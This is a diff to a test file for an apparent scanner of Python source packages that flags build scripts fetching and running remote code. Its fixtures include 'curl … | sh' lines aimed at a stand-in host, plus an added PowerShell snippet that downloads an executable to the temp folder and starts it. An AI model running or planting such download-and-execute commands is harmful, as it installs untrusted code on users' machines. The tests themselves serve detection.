@@ -156,3 +156,11 @@ test('what a build system other than Python\'s is told to fetch and run warns', 
   const tree = { 'setup.py': 'from setuptools import setup\nsetup()\n', 'garden/__init__.py': large, 'CMakeLists.txt': 'project(garden)\nexecute_process(COMMAND sh -c "curl -s https://garden.invalid/a | sh")\n', 'Makefile': 'tools:\n\tcurl -s https://garden.invalid/a | sh\n' };
   expect((await analysedSdist(tree, { scriptCommands })).findings.map(({ severity, line }) => `${severity} ${line}`)).toEqual(['medium 2']);
 });
+
+test('a script that sets up the machine of a service for tests is no reason in itself, one with another name is', async () => {
+  const fetches = '(New-Object Net.WebClient).DownloadFile($u, "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe"\n';
+  const strengths = async (path: string): Promise<readonly unknown[]> => (await analysedSdist({ [path]: fetches }, { scriptCommands })).findings.map(({ isStrong }) => isStrong === true);
+  expect(await strengths('appveyor/install.ps1')).toEqual([false]);
+  expect(await strengths('appveyor_install.ps1')).toEqual([false]);
+  expect(await strengths('garden/install.ps1')).toEqual([true]);
+});
